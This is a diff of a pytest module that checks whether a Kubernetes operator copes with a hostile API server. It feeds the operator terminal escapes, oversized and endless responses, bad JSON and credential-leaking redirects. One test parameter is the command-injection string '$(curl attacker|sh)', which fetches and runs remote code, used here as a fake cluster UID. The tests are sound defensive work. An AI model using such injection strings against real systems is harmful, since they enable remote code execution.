@@ -1,7 +1,6 @@
 """A Cluster whose server is somebody's program: whatever it answers, the operator goes on."""
 
 import asyncio
-import ssl
 from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
 from contextlib import asynccontextmanager, suppress
 from pathlib import Path
@@ -9,10 +8,11 @@ from pathlib import Path
 import pytest
 from aiohttp import web
 
+from listening import server_tls, serving
 from operators import ClusterObjects, operator
 from pequod.dev.kubeconfig import token_kubeconfig
 from pequod.dev.pki import Authority
-from waiting import connections_closed, until
+from waiting import until
 
 UID = "0f0f0f0f-1111-2222-3333-444444444444"
 AUTHORITY = Authority()
@@ -38,26 +38,26 @@ async def nodes(_request: web.Request) -> web.Response:
 
 
 @asynccontextmanager
-async def server(folder: Path, **pages: Page) -> AsyncIterator[bytes]:
+async def server(**pages: Page) -> AsyncIterator[bytes]:
     """An "API server" of other people's making; yields the kubeconfig for it."""
-    app = web.Application()
-    app.router.add_get("/version", pages.get("version", version))
-    app.router.add_get("/api/v1/namespaces/kube-system", pages.get("system", system))
-    app.router.add_get("/api/v1/nodes", pages.get("nodes", nodes))
-    credential = AUTHORITY.server("hostile", addresses=("127.0.0.1",))
-    for name, content in (("crt", credential.certificate), ("key", credential.key)):
-        (folder / name).write_bytes(content)
-    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
-    tls.load_cert_chain(folder / "crt", folder / "key")
-    runner = web.AppRunner(app, shutdown_timeout=0.1)
-    await runner.setup()
-    await web.TCPSite(runner, "127.0.0.1", 0, ssl_context=tls).start()
-    address = f"https://127.0.0.1:{runner.addresses[0][1]}"
-    yield token_kubeconfig(
-        name="hostile", server=address, authority=AUTHORITY.certificate, token="canary"
-    )
-    await runner.cleanup()
-    await connections_closed()
+    known = {
+        "/version": pages.get("version", version),
+        "/api/v1/namespaces/kube-system": pages.get("system", system),
+        "/api/v1/nodes": pages.get("nodes", nodes),
+    }
+
+    async def answer(request: web.Request) -> web.StreamResponse:
+        if (page := known.get(request.path)) is None:
+            raise web.HTTPNotFound
+        return await page(request)
+
+    async with serving(answer, tls=server_tls(AUTHORITY, "127.0.0.1")) as port:
+        yield token_kubeconfig(
+            name="hostile",
+            server=f"https://127.0.0.1:{port}",
+            authority=AUTHORITY.certificate,
+            token="canary",
+        )
 
 
 @pytest.fixture(scope="module", autouse=True)
@@ -74,12 +74,12 @@ async def registered(clusters: ClusterObjects, kubeconfig: bytes) -> None:
 
 
 async def test_a_version_that_is_too_long_or_steers_terminals_is_cut_and_escaped(
-    clusters: ClusterObjects, tmp_path: Path
+    clusters: ClusterObjects,
 ) -> None:
     async def long(_request: web.Request) -> web.Response:
         return web.json_response({"gitVersion": "v1\x1b[31m\n" + "x" * 500})
 
-    async with server(tmp_path, version=long) as kubeconfig:
+    async with server(version=long) as kubeconfig:
         await registered(clusters, kubeconfig)
         await until(lambda: clusters.is_ready("hostile"))
         shown = clusters.status("hostile")["version"]
@@ -88,13 +88,11 @@ async def test_a_version_that_is_too_long_or_steers_terminals_is_cut_and_escaped
 
 
 @pytest.mark.parametrize("uid", ["", "$(curl attacker|sh)", UID.upper(), UID + "\n"])
-async def test_an_identity_that_is_none_is_not_pinned(
-    clusters: ClusterObjects, tmp_path: Path, uid: str
-) -> None:
+async def test_an_identity_that_is_none_is_not_pinned(clusters: ClusterObjects, uid: str) -> None:
     async def other(_request: web.Request) -> web.Response:
         return web.json_response(namespace(uid))
 
-    async with server(tmp_path, system=other) as kubeconfig:
+    async with server(system=other) as kubeconfig:
         await registered(clusters, kubeconfig)
         await until(lambda: clusters.reason("hostile", "Authorized") == "BrokenAnswer")
         assert "identity" not in clusters.status("hostile")
@@ -103,13 +101,13 @@ async def test_an_identity_that_is_none_is_not_pinned(
 
 @pytest.mark.parametrize("remaining", [-5, 10**15])
 async def test_a_number_of_nodes_that_cannot_be_is_bounded(
-    clusters: ClusterObjects, tmp_path: Path, remaining: int
+    clusters: ClusterObjects, remaining: int
 ) -> None:
     async def many(_request: web.Request) -> web.Response:
         metadata = {"resourceVersion": "1", "remainingItemCount": remaining}
         return web.json_response({"kind": "NodeList", "metadata": metadata, "items": []})
 
-    async with server(tmp_path, nodes=many) as kubeconfig:
+    async with server(nodes=many) as kubeconfig:
         await registered(clusters, kubeconfig)
         await until(lambda: clusters.is_ready("hostile"))
         assert 0 <= clusters.status("hostile")["nodes"] <= 1_000_000
@@ -126,20 +124,18 @@ async def test_a_number_of_nodes_that_cannot_be_is_bounded(
     ids=["empty", "deep", "not text", "wrong type"],
 )
 async def test_an_answer_that_makes_no_sense_is_said_to_make_none(
-    clusters: ClusterObjects, tmp_path: Path, body: bytes
+    clusters: ClusterObjects, body: bytes
 ) -> None:
     async def broken(_request: web.Request) -> web.Response:
         return web.Response(body=body, content_type="application/json")
 
-    async with server(tmp_path, version=broken) as kubeconfig:
+    async with server(version=broken) as kubeconfig:
         await registered(clusters, kubeconfig)
         await until(lambda: clusters.reason("hostile", "Reachable") == "BrokenAnswer")
         assert clusters.status("hostile")["reachable"] is False
 
 
-async def test_an_answer_that_would_fill_the_memory_is_cut_off(
-    clusters: ClusterObjects, tmp_path: Path
-) -> None:
+async def test_an_answer_that_would_fill_the_memory_is_cut_off(clusters: ClusterObjects) -> None:
     async def large(request: web.Request) -> web.StreamResponse:
         answer = web.StreamResponse()
         await answer.prepare(request)
@@ -149,30 +145,26 @@ async def test_an_answer_that_would_fill_the_memory_is_cut_off(
                 await asyncio.sleep(0)
         return answer
 
-    async with server(tmp_path, version=large) as kubeconfig:
+    async with server(version=large) as kubeconfig:
         await registered(clusters, kubeconfig)
         await until(lambda: clusters.reason("hostile", "Reachable") == "BrokenAnswer")
         assert "larger than" in clusters.condition("hostile")["message"]
 
 
-async def test_case_79_a_redirect_gets_no_credentials(
-    clusters: ClusterObjects, tmp_path: Path
-) -> None:
+async def test_case_79_a_redirect_gets_no_credentials(clusters: ClusterObjects) -> None:
     seen: list[str] = []
 
     async def away(request: web.Request) -> web.Response:
         seen.append(request.path)
         return web.Response(status=307, headers={"Location": "/api/v1/nodes"})
 
-    async with server(tmp_path, version=away, nodes=away) as kubeconfig:
+    async with server(version=away, nodes=away) as kubeconfig:
         await registered(clusters, kubeconfig)
         await until(lambda: clusters.reason("hostile", "Reachable") == "ApiError")
         assert set(seen) == {"/version"}
 
 
-async def test_an_answer_that_never_ends_is_given_up(
-    clusters: ClusterObjects, tmp_path: Path
-) -> None:
+async def test_an_answer_that_never_ends_is_given_up(clusters: ClusterObjects) -> None:
     async def drip(request: web.Request) -> web.StreamResponse:
         answer = web.StreamResponse()
         await answer.prepare(request)
@@ -180,6 +172,6 @@ async def test_an_answer_that_never_ends_is_given_up(
             await answer.write(b" ")
             await asyncio.sleep(0.2)
 
-    async with server(tmp_path, version=drip) as kubeconfig:
+    async with server(version=drip) as kubeconfig:
         await registered(clusters, kubeconfig)
         await until(lambda: clusters.reason("hostile", "Reachable") == "TimedOut")
